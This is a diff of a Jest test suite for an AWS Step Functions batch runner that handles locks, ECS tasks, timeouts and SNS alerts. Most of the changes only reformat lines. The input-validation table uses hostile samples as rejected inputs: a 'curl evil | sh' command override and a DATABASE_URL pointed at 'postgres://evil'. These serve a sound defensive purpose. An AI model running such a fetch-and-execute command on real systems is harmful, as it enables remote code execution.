@@ -41,10 +41,21 @@ describe('happy path', () => {
     const r = await runScenario(db, aws, { name: 'HappyPath' });
 
     expect(r.status).toBe('SUCCEEDED');
-    expect(r.output).toMatchObject({ outcome: 'succeeded', task: { exitCode: 0, taskArn: aws.startedTasks[0] }, lockRelease: { status: 'released' } });
+    expect(r.output).toMatchObject({
+      outcome: 'succeeded',
+      task: { exitCode: 0, taskArn: aws.startedTasks[0] },
+      lockRelease: { status: 'released' },
+    });
     expect(r.output.task.logUrl).toContain('log-group/$252Fecs$252Fmissing-images');
     expect(r.statesEntered).toEqual([
-      'RouteInput', 'PrepareScheduledRun', 'AcquireLock', 'CheckRunningTasks', 'IsBatchAlreadyRunning', 'StartBatchTask', 'WaitForTaskToStop', 'ReleaseLock',
+      'RouteInput',
+      'PrepareScheduledRun',
+      'AcquireLock',
+      'CheckRunningTasks',
+      'IsBatchAlreadyRunning',
+      'StartBatchTask',
+      'WaitForTaskToStop',
+      'ReleaseLock',
     ]);
     expect(r.calls.map((c) => c.state).indexOf('StartBatchTask')).toBe(2);
     expect(callsTo(r, 'AcquireLock')[0].params).toMatchObject({
@@ -53,8 +64,15 @@ describe('happy path', () => {
       Item: { batch: { S: FAMILY }, owner: { S: r.executionArn }, trigger: { S: 'schedule' } },
     });
     expect(callsTo(r, 'CheckRunningTasks')[0].params).toMatchObject({ Family: FAMILY, DesiredStatus: 'RUNNING' });
-    expect(callsTo(r, 'StartBatchTask')[0].params).toMatchObject({ Group: `batch-runner:${FAMILY}`, Count: 1, Overrides: {} });
-    expect(callsTo(r, 'ReleaseLock')[0].params).toMatchObject({ ConditionExpression: '#owner = :me', ExpressionAttributeValues: { ':me': { S: r.executionArn } } });
+    expect(callsTo(r, 'StartBatchTask')[0].params).toMatchObject({
+      Group: `batch-runner:${FAMILY}`,
+      Count: 1,
+      Overrides: {},
+    });
+    expect(callsTo(r, 'ReleaseLock')[0].params).toMatchObject({
+      ConditionExpression: '#owner = :me',
+      ExpressionAttributeValues: { ':me': { S: r.executionArn } },
+    });
     expect(r.lockItem).toBeUndefined();
     expect(aws.published).toEqual([]);
   });
@@ -63,18 +81,33 @@ describe('happy path', () => {
     const r = await runScenario(db, aws, { input: {} });
 
     expect(r.status).toBe('SUCCEEDED');
-    expect(r.statesEntered.slice(0, 4)).toEqual(['RouteInput', 'ValidateManualInput', 'IsManualInputValid', 'AcquireLock']);
+    expect(r.statesEntered.slice(0, 4)).toEqual([
+      'RouteInput',
+      'ValidateManualInput',
+      'IsManualInputValid',
+      'AcquireLock',
+    ]);
     expect(callsTo(r, 'AcquireLock')[0].params.Item.trigger).toEqual({ S: 'console' });
   });
 
   test('manual input with an allowed override reaches RunTask as a container override', async () => {
-    const r = await runScenario(db, aws, { input: { trigger: 'cli', reason: 're-run after fix', requestedBy: 'ops@example.com', overrides: { environment: { DRY_RUN: 'true' } } } });
+    const r = await runScenario(db, aws, {
+      input: {
+        trigger: 'cli',
+        reason: 're-run after fix',
+        requestedBy: 'ops@example.com',
+        overrides: { environment: { DRY_RUN: 'true' } },
+      },
+    });
 
     expect(r.status).toBe('SUCCEEDED');
     expect(callsTo(r, 'StartBatchTask')[0].params.Overrides).toEqual({
       ContainerOverrides: [{ Name: 'app', Environment: [{ Name: 'DRY_RUN', Value: 'true' }] }],
     });
-    expect(callsTo(r, 'AcquireLock')[0].params.Item).toMatchObject({ requestedBy: { S: 'ops@example.com' }, reason: { S: 're-run after fix' } });
+    expect(callsTo(r, 'AcquireLock')[0].params.Item).toMatchObject({
+      requestedBy: { S: 'ops@example.com' },
+      reason: { S: 're-run after fix' },
+    });
   });
 
   test('a non-zero sidecar does not fail the run: only the batch container counts', async () => {
@@ -103,7 +136,10 @@ describe('lock contention', () => {
     expect(callsTo(r, 'StartBatchTask')).toHaveLength(0);
     expect(r.lockItem?.owner.S).toBe(holder);
     expect(aws.published).toHaveLength(1);
-    expect(aws.published[0]).toMatchObject({ TopicArn: TOPIC_ARN, MessageAttributes: { severity: { StringValue: 'notice' }, outcome: { StringValue: 'skipped' } } });
+    expect(aws.published[0]).toMatchObject({
+      TopicArn: TOPIC_ARN,
+      MessageAttributes: { severity: { StringValue: 'notice' }, outcome: { StringValue: 'skipped' } },
+    });
     expect(aws.published[0].Message).toContain(holder);
   });
 
@@ -119,22 +155,25 @@ describe('lock contention', () => {
     expect(quiet.output.outcome).toBe('skipped');
   });
 
-  test.each(['FAILED', 'TIMED_OUT', 'ABORTED', 'SUCCEEDED'])('lock held by a %s execution is reclaimed with a conditional write naming it, and the batch runs', async (status) => {
-    const stale = executionArn(`Stale${status}`);
-    aws.executions.set(stale, status);
-    await holdLock(db, stale);
+  test.each(['FAILED', 'TIMED_OUT', 'ABORTED', 'SUCCEEDED'])(
+    'lock held by a %s execution is reclaimed with a conditional write naming it, and the batch runs',
+    async (status) => {
+      const stale = executionArn(`Stale${status}`);
+      aws.executions.set(stale, status);
+      await holdLock(db, stale);
 
-    const r = await runScenario(db, aws);
+      const r = await runScenario(db, aws);
 
-    expect(r.status).toBe('SUCCEEDED');
-    expect(callsTo(r, 'ReclaimStaleLock')[0].params).toMatchObject({
-      ConditionExpression: '#owner = :staleOwner',
-      ExpressionAttributeValues: { ':staleOwner': { S: stale } },
-      Item: { owner: { S: r.executionArn }, reclaimedFrom: { S: stale } },
-    });
-    expect(aws.startedTasks).toHaveLength(1);
-    expect(r.lockItem).toBeUndefined();
-  });
+      expect(r.status).toBe('SUCCEEDED');
+      expect(callsTo(r, 'ReclaimStaleLock')[0].params).toMatchObject({
+        ConditionExpression: '#owner = :staleOwner',
+        ExpressionAttributeValues: { ':staleOwner': { S: stale } },
+        Item: { owner: { S: r.executionArn }, reclaimedFrom: { S: stale } },
+      });
+      expect(aws.startedTasks).toHaveLength(1);
+      expect(r.lockItem).toBeUndefined();
+    },
+  );
 
   test('lock held by an execution that no longer exists (history expired) is reclaimed', async () => {
     await holdLock(db, executionArn('DeletedLongAgo'));
@@ -151,7 +190,10 @@ describe('lock contention', () => {
     await holdLock(db, stale);
     aws.whileTaskRuns = () => new Promise((resolve) => setTimeout(resolve, 300));
 
-    const [a, b] = await Promise.all([runScenario(db, aws, { name: 'ReclaimerA' }), runScenario(db, aws, { name: 'ReclaimerB' })]);
+    const [a, b] = await Promise.all([
+      runScenario(db, aws, { name: 'ReclaimerA' }),
+      runScenario(db, aws, { name: 'ReclaimerB' }),
+    ]);
 
     const outcomes = [a.output.outcome, b.output.outcome].sort();
     expect(outcomes).toEqual(['skipped', 'succeeded']);
@@ -170,7 +212,12 @@ describe('lock contention', () => {
 
     const r = await runScenario(db, aws, { name: 'AnswerLost' });
 
-    expect(r.statesEntered.slice(2, 6)).toEqual(['AcquireLock', 'ReadLockHolder', 'EvaluateLockHolder', 'CheckRunningTasks']);
+    expect(r.statesEntered.slice(2, 6)).toEqual([
+      'AcquireLock',
+      'ReadLockHolder',
+      'EvaluateLockHolder',
+      'CheckRunningTasks',
+    ]);
     expect(callsTo(r, 'CheckLockHolderLiveness')).toHaveLength(0);
     expect(r.output.outcome).toBe('succeeded');
     expect(r.lockItem).toBeUndefined();
@@ -220,9 +267,16 @@ describe('starting the task', () => {
 
   test('RunTask API throttled: retried by the state, then runs', async () => {
     const r = await runScenario(db, aws, {
-      inject: (call, attempt) => (call.state === 'StartBatchTask' && attempt < 2 ? Object.assign(new Error('Rate exceeded'), { name: 'ECS.ThrottlingException' }) : undefined),
+      inject: (call, attempt) =>
+        call.state === 'StartBatchTask' && attempt < 2
+          ? Object.assign(new Error('Rate exceeded'), { name: 'ECS.ThrottlingException' })
+          : undefined,
     });
-    expect(callsTo(r, 'StartBatchTask').map((c) => c.error?.name)).toEqual(['ECS.ThrottlingException', 'ECS.ThrottlingException', undefined]);
+    expect(callsTo(r, 'StartBatchTask').map((c) => c.error?.name)).toEqual([
+      'ECS.ThrottlingException',
+      'ECS.ThrottlingException',
+      undefined,
+    ]);
     expect(r.output.outcome).toBe('succeeded');
   });
 });
@@ -244,19 +298,29 @@ describe('failures and the hard timeout', () => {
     expect(alert.Message).toContain(aws.startedTasks[0]);
     expect(alert.Message).toContain('log-events/batch$252Fapp$252F');
     expect(alert.Message).toContain(`#/v2/executions/details/${r.executionArn}`);
-    expect(alert.MessageAttributes).toMatchObject({ batch: { StringValue: FAMILY }, trigger: { StringValue: 'schedule' } });
+    expect(alert.MessageAttributes).toMatchObject({
+      batch: { StringValue: FAMILY },
+      trigger: { StringValue: 'schedule' },
+    });
   });
 
   test('hard timeout: StopTask on its own task ARN with a reason, lock released only after STOPPED, one "timed out" alert', async () => {
     aws.watch = 'hang';
     aws.describeCallsUntilStopped = 2;
 
-    const r = await runScenario(db, aws, { substitutions: { WaitChunkSeconds: '1', WaitChunkCount: '2', HardTimeoutSeconds: '2' } });
+    const r = await runScenario(db, aws, {
+      substitutions: { WaitChunkSeconds: '1', WaitChunkCount: '2', HardTimeoutSeconds: '2' },
+    });
 
     expect(r.status).toBe('FAILED');
     expect(r.error).toBe('BatchRunner.TimedOut');
     expect(r.statesEntered.filter((s) => s === 'WaitForTaskToStop')).toHaveLength(2);
-    expect(aws.stopRequests).toEqual([{ task: aws.startedTasks[0], reason: expect.stringMatching(/^batch-runner: hard timeout of 2 s reached \(execution /) }]);
+    expect(aws.stopRequests).toEqual([
+      {
+        task: aws.startedTasks[0],
+        reason: expect.stringMatching(/^batch-runner: hard timeout of 2 s reached \(execution /),
+      },
+    ]);
     const order = r.calls.map((c) => c.state);
     const stoppedConfirmed = order.lastIndexOf('ConfirmTaskStopped');
     expect(callsTo(r, 'ConfirmTaskStopped').at(-1)?.result).toMatchObject({ Tasks: [{ LastStatus: 'STOPPED' }] });
@@ -271,7 +335,9 @@ describe('failures and the hard timeout', () => {
     aws.watch = 'hang';
     aws.describeCallsUntilStopped = Number.POSITIVE_INFINITY;
 
-    const r = await runScenario(db, aws, { substitutions: { WaitChunkSeconds: '1', WaitChunkCount: '1', StopConfirmAttempts: '3' } });
+    const r = await runScenario(db, aws, {
+      substitutions: { WaitChunkSeconds: '1', WaitChunkCount: '1', StopConfirmAttempts: '3' },
+    });
 
     expect(r.error).toBe('BatchRunner.TimedOut');
     expect(callsTo(r, 'ConfirmTaskStopped')).toHaveLength(4);
@@ -286,7 +352,9 @@ describe('releasing the lock', () => {
   test('release fails transiently: retried, then released', async () => {
     const r = await runScenario(db, aws, {
       inject: (call, attempt) =>
-        call.state === 'ReleaseLock' && attempt < 2 ? Object.assign(new Error('Throughput exceeded'), { name: 'DynamoDB.ProvisionedThroughputExceededException' }) : undefined,
+        call.state === 'ReleaseLock' && attempt < 2
+          ? Object.assign(new Error('Throughput exceeded'), { name: 'DynamoDB.ProvisionedThroughputExceededException' })
+          : undefined,
     });
     expect(callsTo(r, 'ReleaseLock')).toHaveLength(3);
     expect(r.output).toMatchObject({ outcome: 'succeeded', lockRelease: { status: 'released' } });
@@ -310,22 +378,37 @@ describe('releasing the lock', () => {
 describe('input', () => {
   test.each([
     ['unknown key', { reasn: 'typo' }, 'unknown key "reasn"'],
-    ['override outside the allow-list', { overrides: { environment: { DATABASE_URL: 'postgres://evil' } } }, 'overrides.environment.DATABASE_URL is not allowed'],
-    ['command override on a batch that does not allow it', { overrides: { command: ['sh', '-c', 'curl evil | sh'] } }, 'overrides.command is not allowed'],
+    [
+      'override outside the allow-list',
+      { overrides: { environment: { DATABASE_URL: 'postgres://evil' } } },
+      'overrides.environment.DATABASE_URL is not allowed',
+    ],
+    [
+      'command override on a batch that does not allow it',
+      { overrides: { command: ['sh', '-c', 'curl evil | sh'] } },
+      'overrides.command is not allowed',
+    ],
     ['wrong type', { reason: 42 }, 'reason = 42 must be a non-empty string'],
     ['not an object', ['run'], 'input must be a JSON object'],
-    ['schedule trigger forged with extra keys', { ...SCHEDULED_INPUT, overrides: { environment: { DRY_RUN: 'x' } } }, 'trigger = "schedule" is not allowed'],
-  ])('invalid manual input (%s): fails before the lock, nothing started, one alert naming the problem', async (_label, input, message) => {
-    const r = await runScenario(db, aws, { input });
+    [
+      'schedule trigger forged with extra keys',
+      { ...SCHEDULED_INPUT, overrides: { environment: { DRY_RUN: 'x' } } },
+      'trigger = "schedule" is not allowed',
+    ],
+  ])(
+    'invalid manual input (%s): fails before the lock, nothing started, one alert naming the problem',
+    async (_label, input, message) => {
+      const r = await runScenario(db, aws, { input });
 
-    expect(r.status).toBe('FAILED');
-    expect(r.error).toBe('BatchRunner.InvalidInput');
-    expect(r.cause).toContain(message);
-    expect(r.calls.map((c) => c.state)).toEqual(['ValidateManualInput', 'PublishFailureAlert']);
-    expect(r.lockItem).toBeUndefined();
-    expect(alerts()).toHaveLength(1);
-    expect(alerts()[0].MessageAttributes.outcome.StringValue).toBe('invalid_input');
-  });
+      expect(r.status).toBe('FAILED');
+      expect(r.error).toBe('BatchRunner.InvalidInput');
+      expect(r.cause).toContain(message);
+      expect(r.calls.map((c) => c.state)).toEqual(['ValidateManualInput', 'PublishFailureAlert']);
+      expect(r.lockItem).toBeUndefined();
+      expect(alerts()).toHaveLength(1);
+      expect(alerts()[0].MessageAttributes.outcome.StringValue).toBe('invalid_input');
+    },
+  );
 
   test('invalid input does not disturb a lock held by a running execution', async () => {
     const holder = executionArn('Running');
@@ -343,7 +426,10 @@ describe('alerting', () => {
   test('alert publish fails: still ends FAILED with the original error, lock released, one alert attempted', async () => {
     aws.watch = { exitCode: 1 };
     const r = await runScenario(db, aws, {
-      inject: (call) => (call.state === 'PublishFailureAlert' ? Object.assign(new Error('Topic unavailable'), { name: 'SNS.InternalErrorException' }) : undefined),
+      inject: (call) =>
+        call.state === 'PublishFailureAlert'
+          ? Object.assign(new Error('Topic unavailable'), { name: 'SNS.InternalErrorException' })
+          : undefined,
     });
 
     expect(r.status).toBe('FAILED');
@@ -378,7 +464,10 @@ describe('overlap policies', () => {
     aws.executions.set(holder, 'RUNNING');
     await holdLock(db, holder);
 
-    const r = await runScenario(db, aws, { batch: { overlapPolicy: 'wait' }, substitutions: { LockWaitAttempts: '3' } });
+    const r = await runScenario(db, aws, {
+      batch: { overlapPolicy: 'wait' },
+      substitutions: { LockWaitAttempts: '3' },
+    });
 
     expect(r.output).toMatchObject({ outcome: 'skipped', lockHolder: holder });
     expect(r.statesEntered.filter((s) => s === 'WaitForLock')).toHaveLength(3);
@@ -394,8 +483,13 @@ describe('overlap policies', () => {
 
     const r = await runScenario(db, aws, { batch: { overlapPolicy: 'replace' } });
 
-    expect(callsTo(r, 'StopLockHolder')[0].params).toMatchObject({ ExecutionArn: holder, Error: 'BatchRunner.Replaced' });
-    expect(callsTo(r, 'ReclaimStaleLock')[0].params.ExpressionAttributeValues).toEqual({ ':staleOwner': { S: holder } });
+    expect(callsTo(r, 'StopLockHolder')[0].params).toMatchObject({
+      ExecutionArn: holder,
+      Error: 'BatchRunner.Replaced',
+    });
+    expect(callsTo(r, 'ReclaimStaleLock')[0].params.ExpressionAttributeValues).toEqual({
+      ':staleOwner': { S: holder },
+    });
     expect(aws.stopRequests).toEqual([{ task: hungTask, reason: expect.stringContaining('replaced by execution') }]);
     expect(callsTo(r, 'CheckRunningTasks')).toHaveLength(2);
     expect(r.output.outcome).toBe('succeeded');
